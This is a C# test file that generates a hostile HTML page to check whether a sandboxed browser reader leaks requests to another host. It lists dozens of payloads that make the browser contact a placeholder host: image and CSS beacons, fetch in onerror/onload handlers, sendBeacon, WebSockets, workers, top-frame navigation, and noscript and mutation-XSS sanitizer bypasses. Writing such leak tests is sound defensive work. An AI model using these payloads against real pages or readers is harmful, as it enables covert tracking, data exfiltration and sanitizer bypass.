namespace Ephemeral.Tests;

/// <summary>What a page may try in order to tell another host that it is being read. Each attempt has a path of its own on that host.</summary>
/// <remarks>
/// Two gaps are known once the reader has let scripts run, and the reader is told before: RTCPeerConnection asks a STUN server anywhere, which no policy that
/// browsers know today forbids (left out here); and Chromium opens a connection for a frame before it refuses to load it, with no request on it.
/// </remarks>
public static class BrowserHostilePage
{
    private const string Host = BrowserElsewhere.Placeholder;

    /// <summary>Attempts that need no script.</summary>
    private static readonly (string Name, string Html)[] Markup =
    [
        ("img", "<img src='{0}'>"),
        ("srcset", "<img srcset='{0} 1x'>"),
        ("picture", "<picture><source srcset='{0}'><img></picture>"),
        ("input-image", "<input type=image src='{0}'>"),
        ("stylesheet", "<link rel=stylesheet href='{0}'>"),
        ("import", "<style>@import url('{0}');</style>"),
        ("style-attribute", "<div style=\"background:url('{0}');width:9px;height:9px\"></div>"),
        ("style-content", "<style>.c::before { content: url('{0}') }</style><p class=c>c</p>"),
        ("font", "<style>@font-face { font-family: f; src: url('{0}') } .f { font-family: f }</style><p class=f>f</p>"),
        ("iframe", "<iframe src='{0}'></iframe>"),
        ("srcdoc", "<iframe srcdoc=\"<img src='{0}'>\"></iframe>"),
        ("object", "<object data='{0}'></object>"),
        ("embed", "<embed src='{0}'>"),
        ("video", "<video src='{0}' preload=auto autoplay muted></video>"),
        ("poster", "<video poster='{0}'></video>"),
        ("audio", "<audio preload=auto autoplay><source src='{0}'></audio>"),
        ("track", "<video src='data:video/mp4,' crossorigin=anonymous><track default kind=captions src='{0}'></video>"),
        ("svg-image", "<svg><image href='{0}' width=9 height=9 /></svg>"),
        ("svg-feimage", "<svg><filter id=t><feImage href='{0}' /></filter><rect width=9 height=9 filter='url(#t)' /></svg>"),
        ("svg-foreign", "<svg width=9 height=9><foreignObject width=9 height=9><img src='{0}'></foreignObject></svg>"),
        ("svg-style", "<svg><style>@import url('{0}');</style></svg>"),
        ("image-set", "<style>.i { background: image-set('{0}' 1x); width: 9px; height: 9px }</style><div class=i></div>"),
        ("list-style", "<ul><li style=\"list-style-image:url('{0}')\">l</ul>"),
        ("border-image", "<div style=\"border:9px solid;border-image:url('{0}') 9\">b</div>"),
        ("mask", "<div style=\"mask:url('{0}');width:9px;height:9px\"></div>"),
        ("background-attribute", "<table background='{0}'><tr><td>b</td></tr></table>"),
        ("prefetch", "<link rel=prefetch href='{0}'>"),
        ("preload", "<link rel=preload as=image href='{0}'>"),
        ("preconnect", "<link rel=preconnect href='{0}'>"),
        ("dns-prefetch", "<link rel=dns-prefetch href='{0}'>"),
        ("icon", "<link rel=icon href='{0}'>"),
        ("manifest", "<link rel=manifest href='{0}'>"),
        ("policy-report", "<meta http-equiv=Content-Security-Policy-Report-Only content=\"img-src 'none'; report-uri {0}\">"),
        ("shadow", "<div><template shadowrootmode=open><img src='{0}'><iframe src='{0}'></iframe></template></div>"),
        ("shadow-preconnect", "<div><template shadowrootmode=open><link rel=preconnect href='{0}'></template></div>"),
        ("noscript", "<noscript><img src='{0}'></noscript>"),
        ("noscript-breakout", "<noscript><p title=\"</noscript><img src='{0}'>\"></noscript>"),
        ("mutation", "<svg></p><style><a id=\"</style><img src='{0}'>\">"),
        ("base", "<base href='{0}/'><img src='relative'>"),
    ];

    /// <summary>Attempts by script that no script tag is needed for.</summary>
    private static readonly (string Name, string Html)[] Handlers =
    [
        ("onerror", "<img src='data:,' onerror=\"fetch('{0}')\">"),
        ("svg-onload", "<svg onload=\"fetch('{0}')\"></svg>"),
        ("svg-script", "<svg><script href='{0}'></script></svg>"),
        ("ontoggle", "<details open ontoggle=\"fetch('{0}')\">d</details>"),
        ("onfocus", "<input autofocus onfocus=\"fetch('{0}')\">"),
        ("javascript-frame", "<iframe src=\"javascript:fetch('{0}')\"></iframe>"),
        ("srcdoc-script", "<iframe srcdoc=\"<script>fetch('{0}')</script>\"></iframe>"),
        ("shadow-script", "<div><template shadowrootmode=open><script>fetch('{0}')</script></template></div>"),
    ];

    /// <summary>Attempts by script, one statement each.</summary>
    private static readonly (string Name, string Script)[] Scripts =
    [
        ("fetch", "await fetch('{0}', { mode: 'no-cors' })"),
        ("keepalive", "await fetch('{0}', { method: 'POST', mode: 'no-cors', keepalive: true })"),
        ("fetch-later", "fetchLater('{0}', { activateAfter: 0 })"),
        ("xhr", "await new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', '{0}'); x.send(); })"),
        ("beacon", "navigator.sendBeacon('{0}', 'x')"),
        ("websocket", "await new Promise(done => { const s = new WebSocket('{0}'.replace('http', 'ws')); s.onopen = s.onerror = done; })"),
        ("eventsource", "await new Promise(done => { const s = new EventSource('{0}'); s.onopen = s.onerror = () => { s.close(); done(); }; })"),
        ("webtransport", "await new WebTransport('{0}'.replace('http:', 'https:')).ready"),
        ("new-image", "await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = '{0}'; })"),
        ("dynamic-import", "await import('{0}')"),
        ("script-tag", "await new Promise(done => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = '{0}'; document.head.append(s); })"),
        ("font-face", "await new FontFace('x', 'url({0})').load()"),
        ("worker", "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('{0}', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))\"]))); w.onmessage = w.onerror = done; })"),
        ("worker-import", "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob([\"try { importScripts('{0}'); } catch {} postMessage(1)\"]))); w.onmessage = w.onerror = done; })"),
        ("shared-worker", "new SharedWorker('{0}')"),
        ("service-worker", "await navigator.serviceWorker.register('{0}')"),
        ("ping", "{ const a = document.createElement('a'); a.href = 'javascript:void 0'; a.ping = '{0}'; document.body.append(a); a.click(); }"),
        ("popup", "{ const w = open('{0}'); if (w) w.opener = null; }"),
        ("blank-link", "{ const a = document.createElement('a'); a.href = '{0}'; a.target = '_blank'; document.body.append(a); a.click(); }"),
        ("form", "{ const f = document.createElement('form'); f.action = '{0}'; f.target = 'x' + Math.random(); document.body.append(f); f.submit(); }"),
        ("frame", "await new Promise(done => { const f = document.createElement('iframe'); f.onload = done; f.src = '{0}'; document.body.append(f); })"),
        ("inner-frame", "await new Promise(done => { const f = document.createElement('iframe'); f.onload = done; f.srcdoc = \"<script>fetch('{0}', { mode: 'no-cors' })<\\/script><img src='{0}'>\"; document.body.append(f); })"),
        ("inner-navigation", "await new Promise(done => { const f = document.createElement('iframe'); f.onload = done; f.srcdoc = \"<script>location = '{0}'<\\/script>\"; document.body.append(f); setTimeout(done, 2000); })"),
        ("speculation", "{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['{0}'], eagerness: 'immediate' }], prerender: [{ urls: ['{0}'], eagerness: 'immediate' }] }); document.head.append(s); }"),
    ];

    /// <summary>Attempts upon what is around the page.</summary>
    private static readonly (string Name, string Script)[] Outward =
    [
        ("top", "top.location = '{0}'"),
        ("parent", "parent.location.href = '{0}'"),
        ("parent-popup", "parent.open('{0}')"),
        ("top-form", "{ const f = document.createElement('form'); f.action = '{0}'; f.target = '_top'; document.body.append(f); f.submit(); }"),
        ("top-link", "{ const a = document.createElement('a'); a.href = '{0}'; a.target = '_top'; document.body.append(a); a.click(); }"),
    ];

    /// <summary>A page that tries it all, and then shows "The end.". With scripts it shows "All tried." when every attempt has come to its end.</summary>
    public static string Html(string title, bool boxed = true)
    {
        var all = Markup.Concat(Handlers).Select(attempt => Fill(attempt.Html, attempt.Name));
        var scripts = Scripts.Concat(boxed ? Outward : []).Select(attempt => $$"""
            await attempt({{Quote(attempt.Name)}}, async () => { {{Fill(attempt.Script, attempt.Name)}}; });
            """);
        return $$"""
            <!doctype html><html><head><title>{{title}}</title></head><body><h1>{{title}}</h1><p id=tried>Nothing tried.</p>
            <script>
              const outcomes = {};
              const attempt = async (name, run) => {
                const tooLong = new Promise(done => setTimeout(done, 3000, 'no answer'));
                outcomes[name] = await Promise.race([run().then(() => 'done', e => String(e)), tooLong]);
              };
              addEventListener('load', async () => {
                {{string.Join('\n', scripts)}}
                document.getElementById('tried').textContent = 'All tried.';
              });
            </script>
            {{string.Join('\n', all)}}
            <p>The end.</p></body></html>
            """;
    }

    /// <summary>Attempts that must reach the other host where there is no box, or they would prove nothing inside it.</summary>
    public static IEnumerable<string> Live => Markup.Concat(Handlers).Concat(Scripts).Select(attempt => attempt.Name).Except(Dead);

    // Of no effect in this browser without a box either, or only in some states of it; kept for the browsers where they have one.
    private static readonly string[] Dead =
    [
        "preconnect", "dns-prefetch", "shadow-preconnect", "icon", "manifest", "policy-report", "noscript", "webtransport", "shared-worker", "service-worker", "speculation",
    ];

    private static string Fill(string text, string name) => text.Replace("{0}", $"{Host}/{name}", StringComparison.Ordinal);

    private static string Quote(string text) => $"'{text}'";
}
